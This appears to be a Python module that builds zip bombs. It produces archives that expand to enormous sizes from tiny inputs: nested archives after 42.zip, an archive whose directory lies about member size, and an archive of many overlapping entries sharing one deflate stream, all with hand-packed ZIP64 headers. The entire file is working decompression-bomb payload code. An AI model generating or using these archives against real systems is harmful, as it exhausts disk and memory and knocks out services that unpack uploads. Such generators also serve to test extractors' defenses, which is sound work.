"""Archives that unpack to far more than they are: built from one compressed block, so that they cost nothing to make."""

import io
import struct
import zipfile
import zlib

MB = 1 << 20


def nested(levels=5, width=10, leaf=10 * MB):
    """In the manner of 42.zip: every archive holds `width` like it, down to `leaf` blanks each."""
    data = _zipped({"0.txt": b" " * leaf})
    for level in range(levels):
        data = _zipped({f"{level}-{number}.zip": data for number in range(width)})
    return data


def flat(size):
    """One member of `size` blanks, a multiple of 1 MB, of which the directory tells the truth."""
    return _archive([(b"blank.txt", 0)], [(b"blank.txt", _blanks(size // MB), size)])


def lying(size):
    """The same, but the directory says 100 bytes."""
    return _archive([(b"blank.txt", 0)], [(b"blank.txt", _blanks(size // MB), 100)])


def overlapping(entries, size):
    """Many members that are all the same bytes of the file (D. Fifield, A better zip bomb, 2019)."""
    names = [(b"%04d.txt" % number, 0) for number in range(entries)]
    return _archive(names, [(b"0000.txt", _blanks(size // MB), size)])


def _zipped(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _blanks(blocks):
    """A deflate stream of `blocks` MB of blanks: a full flush makes each block independent of those before."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(b" " * MB) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return block * blocks + squeeze.flush(zlib.Z_FINISH)


def _archive(directory, members):
    """APPNOTE 6.3.10, with the sizes in ZIP64 extra fields (4.5.3). The checksums are not right: nobody gets there."""
    body, places = b"", []
    for name, data, size in members:
        places.append((len(body), len(data), size))
        body += b"PK\3\4" + _head(name, extra := _sizes(size, len(data))) + name + extra + data
    listed = b""
    for name, member in directory:
        offset, packed, size = places[member]
        extra = _sizes(size, packed)
        more = struct.pack("<HHHII", 0, 0, 0, 0, offset)
        listed += b"PK\1\2" + struct.pack("<H", 45) + _head(name, extra) + more + name + extra
    count = len(directory)
    return body + listed + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(listed), len(body), 0)


def _sizes(size, packed):
    return struct.pack("<HHQQ", 1, 16, size, packed)


def _head(name, extra):
    return struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 33, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
